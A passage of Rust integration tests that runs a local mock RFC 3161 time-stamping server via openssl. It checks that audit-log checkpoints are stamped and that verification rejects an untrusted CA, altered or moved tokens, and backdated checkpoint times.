                let length: usize = headers.lines().find_map(|l| l.strip_prefix("content-length:")).and_then(|v| v.trim().parse().ok()).unwrap_or(0);
                if received.len() >= end + 4 + length {
                    break Some(received[end + 4..end + 4 + length].to_vec());
                }
            };
            let Some(body) = body else { continue };
            let (query, reply) = (dir.join(format!("q{requests}.tsq")), dir.join(format!("r{requests}.tsr")));
            std::fs::write(&query, body).unwrap();
            let status = Command::new("openssl")
                .args(["ts", "-reply", "-config", "ts.cnf", "-queryfile"])
                .arg(&query)
                .args(["-signer", "tsa.crt", "-inkey", "tsa.key", "-out"])
                .arg(&reply)
                .current_dir(&dir)
                .output()
                .unwrap()
                .status;
            assert!(status.success(), "openssl ts -reply failed");
            let token = std::fs::read(&reply).unwrap();
            let head = format!("HTTP/1.1 200 OK\r\nContent-Type: application/timestamp-reply\r\nContent-Length: {}\r\nConnection: close\r\n\r\n", token.len());
            let _ = tcp.write_all(&[head.as_bytes(), &token].concat()).await;
        }
    });
    (url, ca)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn checkpoints_are_time_stamped_by_the_configured_tsa_and_verify_checks_the_tokens() {
    let tsa_dir = tempfile::tempdir().unwrap();
    let (url, ca) = start_tsa(tsa_dir.path()).await;
    let server = TestServer::start_with(Options { backend: Some(common::Backend::Sqlite), audit_tsa_url: Some(url.clone()), ..Default::default() }).await;
    assert_eq!(server.client("riga").await.soap("/GetApplicationList", &sample("ep115-soap11-plain.xml")).await.status, 200);
    let (_, audit_dir) = server.stop().await;
    let dir = audit_dir.path();
    let witness = dir.join("audit-witness.log");
    // The stamps come from a thread of their own: wait for the final checkpoint's.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    let text = loop {
        let text = std::fs::read_to_string(&witness).unwrap();
        if text.lines().any(|line| line.starts_with("spolis-audit-timestamp ")) {
            break text;
        }
        assert!(std::time::Instant::now() < deadline, "no time-stamp arrived: {text}");
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    };
    let verify = |ca: &Path, witness: &Path| {
        cli(&["audit", "verify", "--data-dir", dir.to_str().unwrap(), "--witness", witness.to_str().unwrap(), "--tsa-ca", ca.to_str().unwrap()])
    };
    let (ok, out, err) = verify(&ca, &witness);
    assert!(ok, "{out}{err}");
    assert!(out.contains("1 RFC 3161 time-stamps verified") && out.contains("CN=Test TSA"), "{out}");
    let (ok, out, _) = cli(&["audit", "verify", "--data-dir", dir.to_str().unwrap(), "--witness", witness.to_str().unwrap()]);
    assert!(ok && out.contains("1 RFC 3161 time-stamps not checked (--tsa-ca)"), "{out}");

    // Another CA does not vouch for this TSA.
    let other = tempfile::tempdir().unwrap();
    let output = Command::new("openssl")
        .args(["req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", "k", "-out", "other.crt", "-subj", "/CN=Other CA", "-days", "1"])
        .current_dir(other.path())
        .output()
        .unwrap();
    assert!(output.status.success());
    let (ok, _, err) = verify(&other.path().join("other.crt"), &witness);
    assert!(!ok && err.contains("does not verify") && err.contains("not trusted for time-stamping"), "{err}");

    // A token moved onto another line, or altered, does not count.
    let stamp = text.lines().find(|line| line.starts_with("spolis-audit-timestamp ")).unwrap();
    let token = stamp.split(' ').find_map(|w| w.strip_prefix("token=")).unwrap();
    use base64::Engine;
    let mut bytes = base64::engine::general_purpose::STANDARD.decode(token).unwrap();
    let middle = bytes.len() / 2;
    bytes[middle] ^= 1;
    let altered = dir.join("altered.log");
    std::fs::write(&altered, text.replace(token, &base64::engine::general_purpose::STANDARD.encode(&bytes))).unwrap();
    let (ok, _, err) = verify(&ca, &altered);
    assert!(!ok && err.contains("does not verify"), "{err}");
    let moved = dir.join("moved.log");
    let imprint = stamp.split(' ').find_map(|w| w.strip_prefix("imprint=")).unwrap();
    std::fs::write(&moved, text.replace(imprint, &"0".repeat(64))).unwrap();
    let (ok, _, err) = verify(&ca, &moved);
    assert!(!ok && err.contains("stamps no checkpoint line"), "{err}");

    // A checkpoint whose claimed signing time is after the TSA saw it lies about its time.
    let signer = spolis_adapter::audit::AuditSigner::load_or_create(&dir.join("audit-signing.key")).unwrap();
    let at = chrono::Utc::now().timestamp_micros() + 3_600_000_000;
    let kind = spolis_adapter::audit::signing::CheckpointKind::Head;
    let future = spolis_adapter::audit::SignedCheckpoint {
        kind,
        seq: 7,
        head_hash: [7; 32],
        signed_at_micros: at,
        key_id: signer.key_id(),
        public_key: signer.public_key().to_vec(),
        signature: signer.sign(kind, 7, &[7; 32], at),
    };
    let backdated = dir.join("future.log");
    let stamping = spolis_adapter::audit::Witness::new(Some(backdated.clone()), &[]).with_tsa(Some(&url)).unwrap();
    stamping.record(&future).unwrap();
    // As at shutdown: wait for the stamp of what was queued.
    tokio::task::spawn_blocking(move || stamping.settle(std::time::Duration::from_secs(30))).await.unwrap();
    assert!(std::fs::read_to_string(&backdated).unwrap().contains("spolis-audit-timestamp "), "settle returned before the stamp");
    let anchors = spolis_adapter::audit::timestamp::read_anchors(&ca).unwrap();
    let error = spolis_adapter::audit::timestamp::verify_file(&backdated, &anchors).unwrap_err().to_string();
    assert!(error.contains("after the TSA stamped it"), "{error}");
}
